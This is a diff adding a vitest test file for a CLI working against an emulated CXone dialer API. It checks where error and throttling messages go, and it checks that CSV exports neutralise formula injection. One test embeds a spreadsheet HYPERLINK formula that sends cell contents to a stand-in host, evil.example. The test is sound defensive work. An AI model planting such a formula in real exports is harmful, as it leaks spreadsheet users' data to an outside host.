@@ -1,0 +1,127 @@
+import { mkdtempSync, readFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { parse } from "csv-parse/sync";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createClient } from "../../src/client.ts";
+import { settingsSchema } from "../../src/core/config/schema.ts";
+import { humanLine } from "../../src/core/logging/logger.ts";
+import { type RunningEmulator, startEmulator } from "../../src/emulator/index.ts";
+import { adminCall } from "../support/emulator-admin.ts";
+import { runCli } from "../support/run-cli.ts";
+
+/**
+ * Issue 20: what a newcomer hit that is not bad input (those are in bad-input.test.ts): where
+ * messages go, how they read, and what CSV outputs contain. One emulator for the file.
+ */
+let emu: RunningEmulator;
+let env: (dir: string) => Record<string, string>;
+const admin$ = (method: string, route: string, body?: unknown) => adminCall(emu.url, method, route, body);
+const dir = () => mkdtempSync(path.join(tmpdir(), "cxo-newcomer-"));
+
+beforeAll(async () => {
+  emu = await startEmulator({ port: 0, calls: 600, rateLimitScale: 1000, metricsIntervalMs: 0 });
+  const client = emu.fixtures.clients[0];
+  if (!client) throw new Error("no client");
+  env = (d) => ({
+    CXONE_BASE_URL: emu.url,
+    CXONE_CLIENT_ID: client.clientId,
+    CXONE_CLIENT_SECRET: client.clientSecret,
+    CXO_DATA_DIR: path.join(d, ".cxo"),
+  });
+});
+afterAll(() => emu.close());
+
+describe("messages", () => {
+  it("tag --call that fails: the error on stderr, nothing on stdout, exit 1", async () => {
+    const locked = emu.fixtures.lockedCalls[0];
+    if (!locked) throw new Error("no locked call");
+    const result = await runCli(
+      ["tag", "--campaign", locked.campaignId, "--call", locked.id, "--disposition", "BUSY"],
+      env(dir()),
+    );
+    expect(result.code).toBe(1);
+    expect(result.stdout).toBe("");
+    expect(result.stderr).toMatch(/^error: not tagged: .*409/m);
+  });
+
+  it('"throttled by CXone" reads as a line in human mode, not as a JSON log line', async () => {
+    const call = emu.fixtures.calls[0];
+    if (!call) throw new Error("no call");
+    await admin$("POST", "/faults", { group: "dispositions", burst429: 2, retryAfter: 1 });
+    const result = await runCli(
+      ["tag", "--campaign", call.campaignId, "--call", call.id, "--disposition", "BUSY"],
+      env(dir()),
+    );
+    await admin$("DELETE", "/faults");
+    expect(result.code).toBe(0);
+    expect(result.stderr).toMatch(/^warning: throttled by CXone: pausing the group/m);
+    expect(result.stderr).not.toMatch(/\{"level"/);
+  });
+
+  it("humanLine: level word, message, fields", () => {
+    expect(
+      humanLine(
+        '{"level":40,"time":1,"pid":2,"hostname":"h","name":"cxo","group":"dispositions","retryAfterMs":1000,"msg":"throttled"}',
+      ),
+    ).toBe("warning: throttled (group dispositions, retryAfterMs 1000)\n");
+  });
+});
+
+describe("CSV formula injection, end to end", () => {
+  it("outcomes export --format csv neutralises a formula in notes; NDJSON keeps it exact; verify passes", async () => {
+    const d = dir();
+    const call = emu.fixtures.calls[1];
+    if (!call) throw new Error("no call");
+    const settings = settingsSchema.parse({
+      cxone: {
+        baseUrl: emu.url,
+        clientId: emu.fixtures.clients[0]?.clientId,
+        clientSecret: emu.fixtures.clients[0]?.clientSecret,
+      },
+      dataDir: path.join(d, ".cxo"),
+    });
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const client = createClient({ settings });
+    await client.dispositions.setCallDisposition(call.id, { dispositionCodeId: "BUSY", notes: formula });
+    await client.close();
+    const window = ["--from", emu.fixtures.callWindow.start, "--to", new Date().toISOString()];
+    const csv = path.join(d, "out.csv");
+    const ndjson = path.join(d, "out.ndjson");
+    const [a, b] = await Promise.all([
+      runCli(
+        [
+          "--json",
+          "outcomes",
+          "export",
+          "--campaign",
+          call.campaignId,
+          ...window,
+          "--format",
+          "csv",
+          "--out",
+          csv,
+        ],
+        env(d),
+      ),
+      runCli(
+        ["--json", "outcomes", "export", "--campaign", call.campaignId, ...window, "--out", ndjson],
+        env(d),
+      ),
+    ]);
+    expect(a.code, a.stderr).toBe(0);
+    expect(b.code, b.stderr).toBe(0);
+    const rows = parse(readFileSync(csv), { columns: true }) as Array<Record<string, string>>;
+    const row = rows.find((r) => r.id === call.id);
+    expect(row?.notes).toBe(`'${formula}`);
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=@\t\r]/);
+    const line = readFileSync(ndjson, "utf8")
+      .split("\n")
+      .find((l) => l.includes(call.id)) as string;
+    expect(JSON.parse(line).notes).toBe(formula);
+    const hash = JSON.parse(a.stdout).complianceHash as string;
+    expect(JSON.parse(b.stdout).complianceHash).toBe(hash);
+    const verify = await runCli(["outcomes", "verify", csv, "--hash", hash], env(d));
+    expect(verify.code, verify.stderr).toBe(0);
+  });
+});
